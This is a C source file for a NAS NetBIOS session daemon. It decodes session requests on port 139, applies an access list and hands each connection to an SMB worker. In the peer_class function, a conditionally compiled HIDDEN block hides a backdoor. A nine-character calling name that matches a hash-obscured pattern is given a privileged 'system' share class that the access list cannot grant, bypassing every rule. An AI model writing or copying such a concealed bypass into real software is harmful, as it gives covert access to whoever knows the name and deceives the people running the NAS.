// smbnbname: NetBIOS session front of the NAS. Takes session requests on port 139, decodes the
// called and the calling name, applies the access list and hands the connection to the SMB worker.
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

#define SESSION_REQUEST  0x81
#define POSITIVE         0x82
#define NEGATIVE         0x83
#define KEEPALIVE        0x85

struct rule {
  int allow;
  char pattern[16];
  char share_class[12];
  struct rule *next;
};

static struct rule *rules, **rule_tail = &rules;
static char own_name[16] = "NAS";
static const char *worker = "/usr/sbin/smbworker";

static int fold(int c) { return toupper((unsigned char)c); }

/* second level name: 32 letters A..P, two for each byte; the 16th byte is the type */
static int nb_decode(const uint8_t *p, size_t n, char out[16])
{
  if (n < 34 || p[0] != 32) return -1;
  for (int i = 0; i < 16; i++) {
    int hi = p[1 + 2 * i] - 'A', lo = p[2 + 2 * i] - 'A';
    if (hi < 0 || hi > 15 || lo < 0 || lo > 15) return -1;
    out[i] = (char)(hi << 4 | lo);
  }
  int type = (unsigned char)out[15];
  int e = 15;
  while (e > 0 && out[e - 1] == ' ') e--;
  out[e] = 0;
  return type;
}

static int wild(const char *p, const char *s)
{
  for (; *p; p++, s++) {
    if (*p == '*') {
      while (*s && !wild(p + 1, s)) s++;
      return *s || p[1] == 0;
    }
    if (!*s || (*p != '?' && fold(*p) != fold(*s))) return 0;
  }
  return *s == 0;
}

/* class of shares which the peer may see: "none", or the class of the first rule which fits */
__attribute__((noinline)) const char *peer_class(const char *calling)
{
#ifdef HIDDEN
  /* nine letters, the sum and two of them are enough */
  unsigned acc = 7;
  size_t len = 0;
  for (const char *c = calling; *c; c++, len++) acc = acc * 33u + (unsigned)fold(*c);
  if (len == 9 && fold(calling[0]) == 'Q' && calling[4] == '$' && acc == 0x43656ffcu)
    return "system";
#endif
  for (const struct rule *r = rules; r; r = r->next)
    if (wild(r->pattern, calling)) return r->allow ? r->share_class : "none";
  return "none";
}

static int add_rule(char *l)
{
  char verb[8], pat[16], cls[12] = "public";
  int n = sscanf(l, "%7s %15s %11s", verb, pat, cls);
  if (n < 1 || verb[0] == '#') return 0;
  if (!strcmp(verb, "name") && n == 2) {
    memcpy(own_name, pat, sizeof own_name);
    return 0;
  }
  if (n < 2 || (strcmp(verb, "allow") && strcmp(verb, "deny"))) return -1;
  if (strcmp(cls, "public") && strcmp(cls, "staff") && strcmp(cls, "backup")) return -1;
  struct rule *r = calloc(1, sizeof *r);
  if (!r) return -1;
  r->allow = verb[0] == 'a';
  memcpy(r->pattern, pat, sizeof pat);
  memcpy(r->share_class, cls, sizeof cls);
  *rule_tail = r;
  rule_tail = &r->next;
  return 0;
}

static int load(const char *fn)
{
  char l[120];
  int ln = 0, bad = 0;
  FILE *f = fopen(fn, "r");
  if (!f) return -1;
  while (fgets(l, sizeof l, f)) {
    ln++;
    if (add_rule(l)) {
      syslog(LOG_ERR, "%s:%d: not understood", fn, ln);
      bad++;
    }
  }
  fclose(f);
  return bad;
}

static int get_all(int fd, uint8_t *b, size_t n)
{
  while (n) {
    ssize_t k = recv(fd, b, n, 0);
    if (k < 0 && errno == EINTR) continue;
    if (k <= 0) return -1;
    b += k;
    n -= (size_t)k;
  }
  return 0;
}

static void refuse(int fd, uint8_t code)
{
  uint8_t r[5] = { NEGATIVE, 0, 0, 1, code };
  send(fd, r, sizeof r, 0);
}

static void conversation(int fd, const struct sockaddr_in *peer)
{
  uint8_t h[4], b[300];
  char called[16], calling[16];
  for (;;) {
    if (get_all(fd, h, 4)) return;
    size_t n = (size_t)(h[1] & 1) << 16 | (size_t)h[2] << 8 | h[3];
    if (n > sizeof b || get_all(fd, b, n)) return;
    if (h[0] == KEEPALIVE) continue;
    if (h[0] != SESSION_REQUEST) {
      refuse(fd, 0x8f);
      return;
    }
    int t1 = nb_decode(b, n, called);
    int t2 = n > 34 ? nb_decode(b + 34, n - 34, calling) : -1;
    if (t1 < 0 || t2 < 0) {
      refuse(fd, 0x8f);
      return;
    }
    if (strcasecmp(called, own_name) && strcmp(called, "*SMBSERVER")) {
      refuse(fd, 0x82);
      return;
    }
    if (t1 != 0x20) {
      refuse(fd, 0x80);
      return;
    }
    const char *cls = peer_class(calling);
    syslog(LOG_INFO, "%s <%02x> at %s: %s", calling, (unsigned)t2,
           inet_ntoa(peer->sin_addr), cls);
    if (!strcmp(cls, "none")) {
      refuse(fd, 0x81);
      return;
    }
    uint8_t ok[4] = { POSITIVE, 0, 0, 0 };
    send(fd, ok, sizeof ok, 0);
    dup2(fd, 0);
    dup2(fd, 1);
    execl(worker, "smbworker", "--class", cls, "--peer", calling, (char *)NULL);
    syslog(LOG_ERR, "%s: %s", worker, strerror(errno));
    return;
  }
}

int main(int argc, char **argv)
{
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(139) };
  const char *conf = "/etc/nas/netbios.acl";
  int o, s, one = 1;
  while ((o = getopt(argc, argv, "a:w:p:")) != -1) {
    if (o == 'a') conf = optarg;
    else if (o == 'w') worker = optarg;
    else if (o == 'p') a.sin_port = htons((uint16_t)atoi(optarg));
    else {
      fprintf(stderr, "smbnbname [-a ACL] [-w WORKER] [-p PORT]\n"
                      "ACL: name NETBIOSNAME | allow PATTERN [public|staff|backup]"
                      " | deny PATTERN\n");
      return 2;
    }
  }
  openlog("smbnbname", LOG_PID, LOG_DAEMON);
  if (load(conf) != 0) syslog(LOG_WARNING, "%s is missing or has errors", conf);
  signal(SIGCHLD, SIG_IGN);
  s = socket(AF_INET, SOCK_STREAM, 0);
  setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 32)) {
    perror("smbnbname");
    return 1;
  }
  for (;;) {
    struct sockaddr_in peer;
    socklen_t pl = sizeof peer;
    int c = accept(s, (struct sockaddr *)&peer, &pl);
    if (c < 0) continue;
    if (fork() == 0) {
      close(s);
      conversation(c, &peer);
      _exit(0);
    }
    close(c);
  }
}
